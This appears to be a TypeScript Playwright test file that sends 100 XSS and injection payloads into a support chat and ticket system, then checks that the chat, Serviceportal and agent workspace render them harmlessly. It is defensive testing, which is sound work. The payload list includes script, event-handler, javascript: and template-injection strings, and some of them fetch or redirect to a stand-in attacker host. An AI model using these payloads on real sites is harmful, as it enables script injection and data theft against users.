/** What people write stays words in every place it is shown: 100 payloads, three to a message, in chat, cards, Serviceportal and workspace, in a real browser. */
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openWorkspace } from '../handoff/workspace.ts';
import { startBrowser } from '../support/browser.ts';
import { type Visit, visit } from '../support/direct-line-client.ts';
import { press } from '../support/press-button.ts';
import { type RunningApp, runApp } from '../support/running-app.ts';

const evil = 'boese.example';
const calls = ['alert(1)', 'prompt(1)', `fetch('https://${evil}')`, `location='https://${evil}'`, 'document.write(1)'];
const shapes: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<svg/onload=${call}>`,
  (call) => `"><body onload=${call}>`,
  (call) => `'><iframe srcdoc="<script>${call}</script>">`,
  (call) => `<a href="javascript:${call}">hier</a>`,
  (call) => `[hier](javascript:${call})`,
  (call) => `[hier](data:text/html,<script>${call}</script>)`,
  (call) => `![Bild](https://${evil}/a.png?${call})`,
  (call) => `[hier](https://${evil}/?${call})`,
  (call) => `[hier][1]\n\n[1]: https://${evil}/?${call}`,
  (call) => `<https://${evil}/?${call}>`,
  (call) => `<style>@import "https://${evil}/${call}.css"</style>`,
  (call) => `<link rel=stylesheet href=//${evil}/${call}>`,
  (call) => `<form action=https://${evil}><button>${call}</button></form>`,
  (call) => `<at>Alle</at> <at id="1">${call}</at>`,
  (call) => `\u202e${call}\u202c \u200b\u2066x\u2069`,
  (call) => `\u001b[31m${call}\u001b[0m\r\nSet-Cookie: a=b`,
  (call) => `=HYPERLINK("https://${evil}/${call}")`,
  (call) => `{{constructor.constructor('${call}')()}} \${${call}}`,
];
const payloads = shapes.flatMap((shape) => calls.map(shape));
/** Each alone would be a long evening; three to a message is how a sender would try. */
const messages = Array.from({ length: payloads.length }, (_, n) =>
  [0, 7, 13].map((step) => payloads[(n + step) % payloads.length]).join(' '),
);

let browser: Browser;
let running: RunningApp;
let visitor: Visit;
let number: string;

beforeAll(async () => {
  [browser, running] = await Promise.all([startBrowser(), runApp()]);
  visitor = await visit(running.url, { demo: 'customer' });
  number = await ticketOf(await visit(running.url, { demo: 'customer' }));
});
afterAll(async () => {
  await browser.close();
  expect(running.errors).toEqual([]);
  await running.close();
});

/** A ticket whose description is full of them. */
async function ticketOf(customer: Visit): Promise<string> {
  await customer.say('Hausperfekt stürzt beim Drucken der Mahnungen ständig ab');
  for (const shape of shapes) await customer.say(shape('alert(1)'));
  await press(customer, 'Es behindert die Arbeit');
  await press(customer, 'Ticket absenden');
  const { activities } = await customer.poll();
  return /IMM-\d{4}-\d{6}-\d/.exec(activities.at(-1)?.text ?? '')?.[0] ?? 'none';
}

interface Watched {
  readonly dialogs: string[];
  readonly foreign: string[];
}

function watch(context: BrowserContext): Watched {
  const seen: Watched = { dialogs: [], foreign: [] };
  context.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  context.on('request', (request) => {
    if (!request.url().startsWith(running.url) && /^https?:/.test(request.url())) seen.foreign.push(request.url());
  });
  return seen;
}

/** Links, forms and frames that a payload would have made. */
const made = (page: Page) =>
  page.frames().reduce<Promise<string[]>>(async (before, frame) => {
    const found = frame.locator(
      `a[href*="${evil}"], a[href^="javascript:"], a[href^="data:"], form[action*="${evil}"], iframe[srcdoc], img[src*="${evil}"]`,
    );
    return [...(await before), ...(await found.evaluateAll((elements) => elements.map(({ outerHTML }) => outerHTML)))];
  }, Promise.resolve([]));

it('in the chat, as sent and as answered', async () => {
  for (const text of messages) expect(await visitor.say(text)).toMatch(/\|/);
  await visitor.say('Ende');

  const context = await browser.newContext({ locale: 'de-DE' });
  const seen = watch(context);
  await context.addInitScript((resume) => sessionStorage.setItem('resume', resume), visitor.access.resume);
  const page = await context.newPage();
  await page.goto(`${running.url}/?visitor=customer`);
  await page.getByRole('button', { name: 'Support-Chat öffnen' }).click();
  await page.frameLocator('iframe').getByText('Ende', { exact: true }).first().waitFor();
  expect(await made(page)).toEqual([]);
  expect(seen).toEqual({ dialogs: [], foreign: [] });
  await context.close();
});

it('in the Serviceportal, as list, ticket and history', async () => {
  const context = await browser.newContext({ locale: 'de-DE' });
  const seen = watch(context);
  const page = await context.newPage();
  await page.goto(`${running.url}/portal/sign-in`);
  await page.getByRole('button', { name: 'Demo Kundin' }).click();
  await page.getByRole('link', { name: number }).click();
  await page.getByRole('heading', { level: 1, name: /Hausperfekt stürzt/ }).waitFor();
  await page.getByText('onerror', { exact: false }).first().waitFor();
  expect(await made(page)).toEqual([]);
  expect(seen).toEqual({ dialogs: [], foreign: [] });
  await context.close();
});

it('in the workspace, as queue, ticket and conversation', async () => {
  const agent = await openWorkspace(browser, running.url, 'Demo Support Eins', `/agent/tickets/${number}`);
  const seen = watch(agent.page.context());
  await agent.at(/Hausperfekt stürzt/);
  await agent.page.getByText('onerror', { exact: false }).first().waitFor();
  expect(await made(agent.page)).toEqual([]);
  expect(seen).toEqual({ dialogs: [], foreign: [] });
  await agent.close();
});
